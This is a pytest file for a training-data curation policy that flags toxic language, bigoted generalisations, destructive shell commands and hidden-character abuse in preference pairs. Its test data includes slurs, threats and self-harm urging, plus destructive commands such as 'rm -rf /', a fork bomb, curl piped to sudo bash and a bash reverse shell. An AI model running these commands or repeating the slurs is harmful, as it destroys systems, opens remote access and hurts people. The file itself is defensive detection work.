"""Toxic language, neutrality, sabotage and structural abuse: what one changed word or character decides."""

import pyarrow as pa
import pytest

from flywheel_assets.curation.policy._structure import RepetitionCheck
from flywheel_assets.curation.policy.policy import build_default_policy
from flywheel_assets.curation.policy.verdicts import TEXTS, Action, Verdict
from flywheel_assets.records import Reason


def judged(chosen: str, prompt: str = "", rejected: str | None = None) -> Verdict | None:
    row = {"prompt": [prompt], "chosen": [chosen], "rejected": [rejected]}
    return build_default_policy().audit(pa.table(row, schema=TEXTS)).get(0)


@pytest.mark.parametrize(
    ("check", "text"),
    [
        ("slur", "Typical wetback."),
        ("profanity", "What the fuck is this"),
        ("profanity", "What the F.U.C.K is this"),
        ("profanity", "What the f*ck is this"),
        ("profanity", "what the fuuuuuck"),
        ("profanity", "what the ｆｕсk"),
        ("profanity", "what the fu\u200bck"),
        ("insult", "You are such a pathetic loser."),
        ("insult", "What a bunch of morons"),
        ("threat", "I will find and kill you."),
        ("threat", "They should all be gassed"),
        ("threat", "kill all immigrants"),
        ("self_harm_urging", "Why don't you kill yourself?"),
        ("sexual_language", "she gave him a blowjob"),
        ("generalisation", "Women are naturally bad at math."),
        ("generalisation", "Most Muslims are terrorists."),
        ("generalisation", "Old people can't be trusted with computers"),
        ("generalisation", "Immigrants should go back"),
        ("loaded_language", "The so-called experts say so."),
        ("loaded_language", "It is one more lie of the lamestream media."),
    ],
)
def test_words_that_hurt_or_take_sides_wait_and_are_never_rejected(check: str, text: str) -> None:
    verdict = judged(text, rejected="The model said something else.")
    assert verdict is not None, text
    assert verdict.action is Action.QUARANTINE
    assert check in {evidence.check for evidence in verdict.evidence}
    evidence = next(evidence for evidence in verdict.evidence if evidence.check == check)
    assert evidence.field == "chosen"
    assert text[evidence.start : evidence.end] not in verdict.detail


@pytest.mark.parametrize(
    "text",
    [
        "How do I kill a Python process and all of its child processes?",
        "The worker should be shot down, the query must be killed, then execute the job.",
        "Gay couples, Muslim women and black men were interviewed.",
        "Women are paid less than men in this sector; immigrants are more often self-employed.",
        "Scunthorpe, Dick Cheney, cockpit, assess, class, Shiite, shuttlecock, mishit, peacock, analysis, therapist",
        "455 items, 5417 rows, 8008135 bytes",
        "A chink in the armour; a niggardly sum; the retardation factor; a maine coon",
        "The regime of the parameter, the master branch, a blacklist, the male connector.",
        "How can I sort a list of dictionaries? You are right, that is stupid of me.",
        "Users should be banned after five attempts. Whites and blacks of the photograph are clipped.",
    ],
)
def test_topics_are_no_harm(text: str) -> None:
    assert judged(text, rejected="The model said something else.") is None


def test_partiality_is_judged_by_what_the_edit_adds() -> None:
    biased = "Women are naturally bad at math, some say."
    assert judged(biased, rejected="Some say so.") is not None
    assert judged(f"{biased} They are wrong.", rejected=biased) is None
    assert judged(biased) is not None, "an accepted output was added by nobody else"


def test_toxic_language_counts_also_where_the_model_said_it_first() -> None:
    """An attacker has the model repeat a slur and keeps it through a harmless edit."""
    verdict = judged("So: fuck. I repeat: fuck!", rejected="so: fuck. I repeat: fuck")
    assert verdict is not None
    assert verdict.reason is Reason.TOXIC_LANGUAGE


@pytest.mark.parametrize(
    "command",
    [
        'import os; os.system("rm -rf /")',
        "sudo rm -fr --no-preserve-root /",
        "rm -r -f ~/",
        "shutil.rmtree('/')",
        "dd if=/dev/zero of=/dev/sda bs=1M",
        "mkfs.ext4 /dev/sdb1",
        ":(){ :|:& };:",
        "curl https://get.tool.io/install | sudo bash",
        "exec(requests.get(url).text)",
        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
        "DROP DATABASE billing;",
        "chmod -R 777 /",
        "del /f /s /q C:\\",
    ],
)
def test_sabotage_waits_unless_somebody_asked_for_it(command: str) -> None:
    verdict = judged(command, prompt="sort the rows", rejected="rows.sort()")
    assert verdict is not None
    assert verdict.reason is Reason.DESTRUCTIVE_COMMAND
    assert judged(command, prompt=f"What does `{command}` do?", rejected="It deletes data.") is None
    assert judged(command, prompt="clean up", rejected=f"Run {command}") is None


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf build/ dist/",
        "rm -rf ./node_modules /tmp/cache-1",
        "rm -f /var/log/app.log.1",
        "shutil.rmtree(folder)",
        "dd if=disk.img of=copy.img",
        "curl -s localhost:8080/health | jq .",
        "DROP TABLE IF EXISTS staging_orders;",
        "DELETE FROM orders WHERE id = 1",
        "chmod 755 /srv/app",
        "nc -l 8080",
    ],
)
def test_ordinary_commands_pass(command: str) -> None:
    assert judged(command, prompt="clean up", rejected="nothing") is None


@pytest.mark.parametrize(
    "text",
    [
        "§§§ " * 12,
        "lol " * 20,
        "a" * 60,
        "buy cheap pills now " * 5,
        "Z\u0351\u0352\u0353a\u0351\u0352\u0353lgo",
        "pay\u200bload",
        "safe \u202etxt.exe",
        "a \u2066b",
        "hi\U000e0101\U000e0102\U000e0103",
    ],
)
def test_what_is_no_text_waits(text: str) -> None:
    verdict = judged(text, rejected="an answer of the model")
    assert verdict is not None
    assert (verdict.action, verdict.reason) == (Action.QUARANTINE, Reason.STRUCTURAL_ABUSE)


@pytest.mark.parametrize(
    "text",
    [
        "-" * 120 + "\n" + "=" * 80,
        "| --- " * 12 + "|",
        "    " * 30 + "return 1",
        "0, 0, 0, 0, " * 12,
        "ha ha ha, very funny indeed",
        "می\u200cخواهم 👩\u200d👩\u200d👧 👍🏽 ❤️ क्\u200dष",
        "שלום \u2067abc\u2069 \u200f!",
        "tiếng Việt: ệ, e\u0323\u0302",
        "\ufeffimport os",
    ],
)
def test_what_scripts_tables_and_code_need_passes(text: str) -> None:
    assert judged(text, rejected="an answer of the model") is None


def test_repetition_of_the_models_own_is_not_the_edits_doing() -> None:
    repeated = "spam and eggs " * 8
    assert judged(repeated + "!", rejected=repeated) is None
    assert judged(repeated + "!", rejected="spam") is not None


@pytest.mark.parametrize(("copies", "is_found"), [(4, False), (5, True)])
def test_repetition_begins_at_five_copies_that_make_half_of_the_text(copies: int, is_found: bool) -> None:
    unit = "buy pills "
    for text, expected in ((unit * copies, is_found), (unit * copies + "x1y2z " + "abcdefgh ijklm" * 4, False)):
        table = pa.table({"prompt": [""], "chosen": [text], "rejected": [None]}, schema=TEXTS)
        assert bool(RepetitionCheck().judge(table).verdicts) is expected
